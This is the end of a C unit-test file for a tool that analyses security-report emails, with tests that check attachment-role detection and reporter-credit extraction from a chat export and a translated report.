		"[이서연] [오후 3:10] 내가 보안팀에 메일 쓸게요\n";
	const Att katts[] = { { "check.py", "text/x-python-script", "import uuid\nprint(uuid.uuid4())\n" },
			      { "KakaoTalk_20270104_1522_group.txt", "text/plain; charset=utf-8", kakao }, { NULL } };
	g_autoptr(StAnalysis) k = analyse(rules, "snapshot restores share the CRNG",
					  "restored sandboxes print the same uuid4, see the attached chat.\n", katts);
	g_assert_cmpint(((StAttachment *)g_ptr_array_index(k->msg->attachments, 0))->role, ==, ST_ROLE_POC);
	g_assert_cmpint(((StAttachment *)g_ptr_array_index(k->msg->attachments, 1))->role, ==, ST_ROLE_LOG);
}

/* (3135) a translation agency's mail with the report's English
 * translation attached ("TR-27-0488_EN.txt  certified English
 * translation"): the translation is the report, its credit request read;
 * without the pointer the same file is only its role */
static void
test_translation_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char tr[] =
		"TR-27-0488 - Certified translation from Korean into English\nClient: Park Ji-hoon\n\n"
		"A fork bomb in one sandbox makes msb stop wait 300 seconds.\n\n"
		"2027-03-01T10:00:00Z WARN msbd: stop timed out after 300s\n"
		"2027-03-01T10:05:00Z WARN msbd: stop timed out after 300s\n"
		"2027-03-01T10:10:00Z WARN msbd: stop timed out after 300s\n\n"
		"Credit\nIf you credit reporters, please use the name \"Park Ji-hoon\".\n";
	const Att atts[] = { { "TR-27-0488_EN.txt", "text/plain", tr }, { NULL } };
	g_autoptr(StAnalysis) a = analyse(rules, "Translation of a report", "Our client asked us to send his report.\n\n"
					  "Please find attached:\n\n  TR-27-0488_EN.txt   certified English translation\n",
					  atts);
	g_assert_cmpstr(a->credit_name, ==, "Park Ji-hoon");
	g_autoptr(StAnalysis) b = analyse(rules, "Logs", "Our logs are attached.\n", atts);
	g_assert_null(b->credit_name);
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/extract/crash-report-utf16", test_crash_report_utf16);
	g_test_add_func("/extract/archive-log-named", test_archive_log_named);
	g_test_add_func("/extract/crash-report-facts", test_crash_report_facts);
	g_test_add_func("/extract/scorecard-json", test_scorecard_json);
	g_test_add_func("/extract/file-name-version", test_file_name_version);
	g_test_add_func("/extract/host-log-kernel", test_host_log_kernel);
	g_test_add_func("/extract/archive-roles", test_archive_roles);
	g_test_add_func("/extract/cast-text", test_cast_text);
	g_test_add_func("/extract/archive-logs", test_archive_logs);
	g_test_add_func("/extract/html-writeup", test_html_writeup);
	g_test_add_func("/extract/html-review-export", test_html_review_export);
	g_test_add_func("/extract/archive-notes", test_archive_notes);
	g_test_add_func("/extract/archive-description", test_archive_description);
	g_test_add_func("/extract/archive-credit", test_archive_credit);
	g_test_add_func("/extract/pdf", test_pdf);
	g_test_add_func("/extract/docx", test_docx);
	g_test_add_func("/extract/writeup-attached", test_writeup_attached);
	g_test_add_func("/extract/chat-export", test_chat_export);
	g_test_add_func("/extract/translation-attached", test_translation_attached);
	g_test_add_func("/extract/latex-document", test_latex_document);
	return g_test_run();
}
